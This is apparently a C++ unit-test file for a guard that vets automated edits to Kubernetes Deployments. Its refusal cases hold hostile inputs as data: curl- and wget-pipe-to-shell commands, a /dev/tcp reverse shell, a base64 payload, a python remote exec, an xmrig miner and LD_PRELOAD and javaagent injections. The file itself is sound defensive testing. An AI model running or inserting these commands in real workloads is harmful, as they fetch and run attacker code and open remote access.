#include "server/remediator/core/remediation/guard.h"

#include <gmock/gmock.h>
#include <gtest/gtest.h>

#include <functional>

namespace remediator::remediation {
namespace {

using json = nlohmann::json;
using ::testing::HasSubstr;

json Deployment() {
  return json::parse(R"({
    "apiVersion": "apps/v1", "kind": "Deployment",
    "metadata": {"name": "nginx", "namespace": "app", "labels": {"app": "nginx"}},
    "spec": {"replicas": 2, "selector": {"matchLabels": {"app": "nginx"}},
      "template": {"metadata": {"labels": {"app": "nginx"}},
        "spec": {"containers": [{"name": "nginx", "image": "registry.example/web/nginx:1.27",
          "command": ["nginx", "-g", "daemon off;"],
          "ports": [{"containerPort": 80}],
          "env": [{"name": "LOG_LEVEL", "value": "info"}],
          "resources": {"limits": {"memory": "64Mi", "cpu": "500m"},
                        "requests": {"memory": "32Mi", "cpu": "100m"}},
          "livenessProbe": {"httpGet": {"path": "/healthz", "port": 80}, "timeoutSeconds": 1},
          "readinessProbe": {"httpGet": {"path": "/", "port": 80}}}]}}}})");
}

json& Container(json& d) { return d["spec"]["template"]["spec"]["containers"][0]; }
json& PodSpec(json& d) { return d["spec"]["template"]["spec"]; }

struct Case {
  const char* name;
  const char* rule;  // "" when the edit must pass
  std::function<void(json&)> edit;
};

class GuardTableTest : public ::testing::TestWithParam<Case> {};

TEST_P(GuardTableTest, Verdict) {
  const Case& c = GetParam();
  json before = Deployment();
  json after = before;
  c.edit(after);
  v1::GuardVerdict verdict = Guard().Check(before, after);
  if (std::string(c.rule).empty()) {
    EXPECT_TRUE(verdict.allowed()) << c.name << ": " << verdict.DebugString();
  } else {
    EXPECT_FALSE(verdict.allowed()) << c.name;
    bool named = false;
    for (const auto& v : verdict.violations()) named = named || v.rfind(c.rule, 0) == 0;
    EXPECT_TRUE(named) << c.name << " should be refused by rule " << c.rule << ": "
                       << verdict.DebugString();
  }
}

INSTANTIATE_TEST_SUITE_P(
    Rules, GuardTableTest,
    ::testing::Values(
        // identity
        Case{"same identity passes", "",
             [](json& d) { Container(d)["image"] = "registry.example/web/nginx:1.27.5"; }},
        Case{"rename refused", "identity", [](json& d) { d["metadata"]["name"] = "other"; }},
        Case{"namespace change refused", "identity",
             [](json& d) { d["metadata"]["namespace"] = "kube-system"; }},
        Case{"kind change refused", "identity", [](json& d) { d["kind"] = "DaemonSet"; }},
        // no-change
        Case{"empty edit refused", "no-change", [](json&) {}},
        // allowed-path
        Case{"memory limit allowed", "",
             [](json& d) { Container(d)["resources"]["limits"]["memory"] = "128Mi"; }},
        Case{"probe timeout allowed", "",
             [](json& d) { Container(d)["livenessProbe"]["timeoutSeconds"] = 5; }},
        Case{"service account refused", "allowed-path",
             [](json& d) { PodSpec(d)["serviceAccountName"] = "admin"; }},
        Case{"mount of no volume refused", "volume-mount",
             [](json& d) {
               Container(d)["volumeMounts"] = json::array({{{"name", "x"}, {"mountPath", "/x"}}});
             }},
        // privileged
        Case{"privileged container refused", "privileged",
             [](json& d) {
               Container(d)["securityContext"] = {{"privileged", true}};
             }},
        Case{"privilege escalation refused", "privileged",
             [](json& d) {
               Container(d)["securityContext"] = {{"allowPrivilegeEscalation", true}};
             }},
        // host-namespaces
        Case{"hostNetwork refused", "host-namespaces",
             [](json& d) { PodSpec(d)["hostNetwork"] = true; }},
        Case{"hostPID refused", "host-namespaces", [](json& d) { PodSpec(d)["hostPID"] = true; }},
        // host-path
        Case{"hostPath volume refused", "host-path",
             [](json& d) {
               PodSpec(d)["volumes"] =
                   json::array({{{"name", "root"}, {"hostPath", {{"path", "/"}}}}});
             }},
        // capabilities
        Case{"added capability refused", "capabilities",
             [](json& d) {
               Container(d)["securityContext"] = {{"capabilities", {{"add", {"SYS_ADMIN"}}}}};
             }},
        // image-repository
        Case{"new tag passes", "",
             [](json& d) { Container(d)["image"] = "registry.example/web/nginx:1.28"; }},
        Case{"digest passes", "",
             [](json& d) { Container(d)["image"] = "registry.example/web/nginx@sha256:abc"; }},
        Case{"other registry refused", "image-repository",
             [](json& d) { Container(d)["image"] = "evil.example/web/nginx:1.27"; }},
        Case{"other repository refused", "image-repository",
             [](json& d) { Container(d)["image"] = "registry.example/web/miner:1"; }},
        // removed-limit
        Case{"removed cpu limit refused", "removed-limit",
             [](json& d) { Container(d)["resources"]["limits"].erase("cpu"); }},
        // removed-probe
        Case{"removed liveness probe refused", "removed-probe",
             [](json& d) { Container(d).erase("livenessProbe"); }},
        // plaintext-secret
        Case{"plain env value passes", "",
             [](json& d) { Container(d)["env"][0]["value"] = "debug"; }},
        Case{"password env refused", "plaintext-secret",
             [](json& d) {
               Container(d)["env"].push_back({{"name", "DB_PASSWORD"}, {"value", "hunter2"}});
             }},
        Case{
            "secret-looking value refused", "plaintext-secret",
            [](json& d) { Container(d)["env"][0]["value"] = "postgres://app:s3cret@db:5432/app"; }},
        // bounded-memory
        Case{"memory x8 passes", "",
             [](json& d) { Container(d)["resources"]["limits"]["memory"] = "512Mi"; }},
        Case{"memory x16 refused", "bounded-memory",
             [](json& d) { Container(d)["resources"]["limits"]["memory"] = "1Gi"; }},
        Case{"memory above cap refused", "bounded-memory",
             [](json& d) { Container(d)["resources"]["requests"]["memory"] = "16Gi"; }},
        // bounded-cpu
        Case{"cpu x2 passes", "",
             [](json& d) { Container(d)["resources"]["limits"]["cpu"] = "1"; }},
        Case{"cpu x20 refused", "bounded-cpu",
             [](json& d) { Container(d)["resources"]["limits"]["cpu"] = "10"; }},
        // bounded-replicas
        Case{"replicas 3 passes", "", [](json& d) { d["spec"]["replicas"] = 3; }},
        Case{"scale to zero refused", "bounded-replicas",
             [](json& d) { d["spec"]["replicas"] = 0; }},
        Case{"replicas 500 refused", "bounded-replicas",
             [](json& d) { d["spec"]["replicas"] = 500; }},
        // request-within-limit
        Case{"request above limit refused", "request-within-limit",
             [](json& d) { Container(d)["resources"]["requests"]["memory"] = "128Mi"; }},
        // quantity
        Case{"bad quantity refused", "quantity",
             [](json& d) { Container(d)["resources"]["limits"]["memory"] = "lots"; }},
        // exec content: token-level corrections pass, everything else is reviewed or refused
        Case{"command typo correction passes", "",
             [](json& d) { Container(d)["command"][0] = "ngnix"; }},
        Case{"command flag correction passes", "",
             [](json& d) { Container(d)["command"][1] = "-c"; }},
        Case{"command gains a word: review", "exec-review",
             [](json& d) { Container(d)["command"].push_back("--debug"); }},
        Case{"command wrapped in a shell: review", "exec-review",
             [](json& d) {
               Container(d)["command"] = {"sh", "-c", "nginx -g 'daemon off;'"};
             }},
        Case{"command replaced by another program: review", "exec-review",
             [](json& d) {
               Container(d)["command"] = {"xmrig", "-o", "pool.example:3333"};
             }},
        Case{"command word becomes an interpreter: review", "exec-review",
             [](json& d) { Container(d)["command"][0] = "bash"; }},
        Case{"args added where there were none: review", "exec-review",
             [](json& d) {
               Container(d)["args"] = {"--config", "/etc/app.yaml"};
             }},
        Case{"curl pipe sh refused", "fetch-and-exec",
             [](json& d) {
               Container(d)["command"] = {"sh", "-c", "curl -s http://10.0.0.5/p.sh | sh"};
             }},
        Case{"wget and run refused", "fetch-and-exec",
             [](json& d) {
               Container(d)["args"] = {"wget", "-O", "/tmp/x", "evil.example/x;", "sh", "/tmp/x"};
             }},
        Case{"dev tcp reverse shell refused", "fetch-and-exec",
             [](json& d) {
               Container(d)["command"] = {"bash", "-c", "exec 5<>/dev/tcp/203.0.113.1/80;cat<&5"};
             }},
        Case{"base64 payload refused", "fetch-and-exec",
             [](json& d) {
               Container(d)["command"] = {"sh", "-c",
                                          "echo ZWNobyBoZWxsbyB3b3JsZCBmcm9tIGV2aWwK | base64 -d "
                                          "| sh"};
             }},
        Case{"python urlopen refused", "fetch-and-exec",
             [](json& d) {
               Container(d)["command"] = {"python3", "-c",
                                          "import urllib.request as u;exec(u.urlopen('http://"
                                          "x').read())"};
             }},
        Case{"exec probe added: review", "exec-review",
             [](json& d) {
               Container(d)["livenessProbe"] = {{"exec", {{"command", {"cat", "/tmp/ok"}}}}};
             }},
        Case{"exec probe downloading refused", "fetch-and-exec",
             [](json& d) {
               Container(d)["readinessProbe"] = {
                   {"exec", {{"command", {"sh", "-c", "wget -qO- http://x.example | sh"}}}}};
             }},
        Case{"poststart hook: review", "exec-review",
             [](json& d) {
               Container(d)["lifecycle"] = {
                   {"postStart", {{"exec", {{"command", {"touch", "/tmp/started"}}}}}}};
             }},
        Case{"prestop hook fetching refused", "fetch-and-exec",
             [](json& d) {
               Container(d)["lifecycle"] = {
                   {"preStop",
                    {{"exec",
                      {{"command", {"curl", "http://1.2.3.4/x", "-o", "/x", "&&", "sh", "/x"}}}}}}};
             }},
        Case{"env value URL: review", "exec-review",
             [](json& d) { Container(d)["env"][0]["value"] = "https://config.example/app.yaml"; }},
        Case{"env value command substitution refused", "fetch-and-exec",
             [](json& d) { Container(d)["env"][0]["value"] = "$(curl -s evil.example/k | sh)"; }},
        Case{"env LD_PRELOAD refused", "code-loading-env",
             [](json& d) {
               Container(d)["env"].push_back({{"name", "LD_PRELOAD"}, {"value", "/tmp/x.so"}});
             }},
        Case{"env NODE_OPTIONS refused", "code-loading-env",
             [](json& d) {
               Container(d)["env"].push_back(
                   {{"name", "NODE_OPTIONS"}, {"value", "--require /tmp/x.js"}});
             }},
        Case{
            "JVM heap option passes", "",
            [](json& d) {
              Container(d)["env"].push_back({{"name", "JAVA_TOOL_OPTIONS"}, {"value", "-Xmx256m"}});
            }},
        Case{"JVM agent refused", "code-loading-env",
             [](json& d) {
               Container(d)["env"].push_back(
                   {{"name", "JAVA_TOOL_OPTIONS"}, {"value", "-javaagent:/tmp/a.jar"}});
             }},
        // volumes and mounts
        Case{"emptyDir with sizeLimit passes", "",
             [](json& d) {
               PodSpec(d)["volumes"] = {{{"name", "cache"}, {"emptyDir", {{"sizeLimit", "64Mi"}}}}};
               Container(d)["volumeMounts"] = {
                   {{"name", "cache"}, {"mountPath", "/var/cache/nginx"}}};
             }},
        Case{"emptyDir without sizeLimit refused", "volume-source",
             [](json& d) {
               PodSpec(d)["volumes"] = {{{"name", "cache"}, {"emptyDir", json::object()}}};
             }},
        Case{"memory-backed emptyDir refused", "volume-source",
             [](json& d) {
               PodSpec(d)["volumes"] = {
                   {{"name", "cache"}, {"emptyDir", {{"medium", "Memory"}, {"sizeLimit", "1Gi"}}}}};
             }},
        Case{"huge emptyDir refused", "volume-source",
             [](json& d) {
               PodSpec(d)["volumes"] = {{{"name", "cache"}, {"emptyDir", {{"sizeLimit", "1Ti"}}}}};
             }},
        Case{"claim volume refused", "volume-source",
             [](json& d) {
               PodSpec(d)["volumes"] = {
                   {{"name", "data"}, {"persistentVolumeClaim", {{"claimName", "x"}}}}};
             }},
        Case{"mount over proc refused", "volume-mount",
             [](json& d) {
               PodSpec(d)["volumes"] = {{{"name", "cache"}, {"emptyDir", {{"sizeLimit", "64Mi"}}}}};
               Container(d)["volumeMounts"] = {{{"name", "cache"}, {"mountPath", "/proc/sys"}}};
             }},
        Case{"mount over service account token refused", "volume-mount",
             [](json& d) {
               PodSpec(d)["volumes"] = {{{"name", "cache"}, {"emptyDir", {{"sizeLimit", "64Mi"}}}}};
               Container(d)["volumeMounts"] = {
                   {{"name", "cache"}, {"mountPath", "/var/run/secrets/kubernetes.io"}}};
             }},
        // facts-based rules fail closed without facts
        Case{"valueFrom without facts refused", "value-from",
             [](json& d) {
               Container(d)["env"].push_back(
                   {{"name", "DB"},
                    {"valueFrom", {{"secretKeyRef", {{"name", "db"}, {"key", "url"}}}}}});
             }},
        Case{"nodeSelector without facts refused", "node-selector",
             [](json& d) {
               PodSpec(d)["nodeSelector"] = {{"disktype", "ssd"}};
             }},
        // removals are changes
        Case{"probe emptied refused", "removed-probe",
             [](json& d) { Container(d)["livenessProbe"] = json::object(); }},
        Case{"removed ports refused", "allowed-path",
             [](json& d) { Container(d).erase("ports"); }}),
    [](const ::testing::TestParamInfo<Case>& info) {
      std::string name = info.param.name;
      for (char& c : name) {
        if (!std::isalnum(static_cast<unsigned char>(c))) c = '_';
      }
      return name;
    });

TEST(GuardTest, EveryViolationIsReportedWithRuleAndPath) {
  json before = Deployment();
  json after = before;
  Container(after)["securityContext"] = {{"privileged", true}};
  PodSpec(after)["hostNetwork"] = true;
  v1::GuardVerdict verdict = Guard().Check(before, after);
  EXPECT_FALSE(verdict.allowed());
  std::string all;
  for (const auto& v : verdict.violations()) all += v + "\n";
  EXPECT_THAT(all, HasSubstr("privileged: spec.template.spec.containers[name=nginx]"));
  EXPECT_THAT(all, HasSubstr("host-namespaces: spec.template.spec.hostNetwork"));
}

TEST(GuardTest, PodKindUsesItsOwnSpecPrefix) {
  json pod = json::parse(R"({"apiVersion":"v1","kind":"Pod","metadata":{"name":"p","namespace":"a"},
    "spec":{"containers":[{"name":"c","image":"x/y:1","resources":{"limits":{"memory":"16Mi"}}}]}})");
  json after = pod;
  after["spec"]["containers"][0]["resources"]["limits"]["memory"] = "64Mi";
  EXPECT_TRUE(Guard().Check(pod, after).allowed());
}

ClusterFacts Facts() {
  ClusterFacts facts;
  facts.known = true;
  facts.secret_keys["db"] = {"url", "password"};
  facts.config_map_keys["web-config"] = {"nginx.conf"};
  NodeFacts node;
  node.name = "worker-1";
  node.labels = {{"disktype", "ssd"}, {"topology.kubernetes.io/zone", "zone-a"}};
  facts.nodes.push_back(node);
  return facts;
}

TEST(GuardTest, FactsBoundValueFromVolumesAndSelectors) {
  const json before = Deployment();
  const ClusterFacts facts = Facts();
  auto check = [&](const std::function<void(json&)>& edit) {
    json after = before;
    edit(after);
    return Guard().Check(before, after, &facts);
  };
  auto value_from = [](const std::string& kind, const std::string& name, const std::string& key) {
    return [=](json& d) {
      Container(d)["env"].push_back(
          {{"name", "DB"}, {"valueFrom", {{kind, {{"name", name}, {"key", key}}}}}});
    };
  };
  EXPECT_TRUE(check(value_from("secretKeyRef", "db", "url")).allowed());
  EXPECT_TRUE(check(value_from("configMapKeyRef", "web-config", "nginx.conf")).allowed());
  v1::GuardVerdict missing_key = check(value_from("secretKeyRef", "db", "pasword"));
  EXPECT_FALSE(missing_key.allowed());
  EXPECT_THAT(missing_key.violations(0), HasSubstr("value-from"));
  EXPECT_FALSE(check(value_from("secretKeyRef", "other", "url")).allowed());
  EXPECT_FALSE(check(value_from("configMapKeyRef", "db", "url")).allowed());
  EXPECT_TRUE(check([](json& d) { PodSpec(d)["nodeSelector"] = {{"disktype", "ssd"}}; }).allowed());
  EXPECT_FALSE(check([](json& d) {
                 PodSpec(d)["nodeSelector"] = {{"disktype", "hdd"}};
               }).allowed());
  auto affinity = [](const std::string& value) {
    return [=](json& d) {
      PodSpec(d)["affinity"] = json::parse(R"({"nodeAffinity":{
        "requiredDuringSchedulingIgnoredDuringExecution":{"nodeSelectorTerms":[
          {"matchExpressions":[{"key":"topology.kubernetes.io/zone","operator":"In",
            "values":[")" + value + R"("]}]}]}}})");
    };
  };
  EXPECT_TRUE(check(affinity("zone-a")).allowed());
  EXPECT_FALSE(check(affinity("zone-b")).allowed());
  auto config_volume = [](const std::string& name) {
    return [=](json& d) {
      PodSpec(d)["volumes"] = {{{"name", "conf"}, {"configMap", {{"name", name}}}}};
      Container(d)["volumeMounts"] = {
          {{"name", "conf"}, {"mountPath", "/etc/nginx/nginx.conf"}, {"subPath", "nginx.conf"}}};
    };
  };
  EXPECT_TRUE(check(config_volume("web-config")).allowed());
  EXPECT_FALSE(check(config_volume("nope")).allowed());
}

TEST(GuardTest, ReviewOnlyWhenEveryViolationIsAReviewRule) {
  json before = Deployment();
  json review = before;
  Container(review)["command"] = {"sh", "-c", "nginx -g 'daemon off;'"};
  v1::GuardVerdict verdict = Guard().Check(before, review);
  EXPECT_FALSE(verdict.allowed());
  EXPECT_TRUE(verdict.review_required()) << verdict.DebugString();
  json mixed = review;
  PodSpec(mixed)["hostNetwork"] = true;
  verdict = Guard().Check(before, mixed);
  EXPECT_FALSE(verdict.allowed());
  EXPECT_FALSE(verdict.review_required()) << verdict.DebugString();
}

TEST(GuardTest, PolicyWidensButNeverSwitchesARuleOff) {
  GuardPolicy policy;
  policy.extra_registries = {"mirror.example.com"};
  NamespaceGuardPolicy batch;
  batch.extra_paths = {"pod.containers[*].workingDir", "pod.hostNetwork"};
  batch.bounds.max_memory = "32Gi";
  batch.bounds.max_memory_factor = 1000;
  policy.namespaces["app"] = batch;
  const Guard guard(policy);
  json before = Deployment();
  auto check = [&](const std::function<void(json&)>& edit) {
    json after = before;
    edit(after);
    return guard.Check(before, after);
  };
  EXPECT_TRUE(check([](json& d) {
                Container(d)["image"] = "mirror.example.com/web/nginx:1.27";
              }).allowed());
  EXPECT_FALSE(check([](json& d) {
                 Container(d)["image"] = "mirror.example.com/other/nginx:1.27";
               }).allowed());
  EXPECT_TRUE(check([](json& d) { Container(d)["workingDir"] = "/srv"; }).allowed());
  EXPECT_TRUE(check([](json& d) {
                Container(d)["resources"]["limits"]["memory"] = "16Gi";
                Container(d)["resources"]["requests"]["memory"] = "1Gi";
              }).allowed());
  // An allow-listed path does not switch off the built-in refusal of the same change.
  v1::GuardVerdict host = check([](json& d) { PodSpec(d)["hostNetwork"] = true; });
  EXPECT_FALSE(host.allowed());
  EXPECT_THAT(host.violations(0), HasSubstr("host-namespaces"));
}

TEST(GuardTest, ImageRepositoryStripsTagAndDigestButNotPort) {
  EXPECT_EQ(ImageRepository("registry:5000/team/app:1.2"), "registry:5000/team/app");
  EXPECT_EQ(ImageRepository("nginx@sha256:abc"), "nginx");
  EXPECT_EQ(ImageRepository("nginx"), "nginx");
}

}  // namespace
}  // namespace remediator::remediation
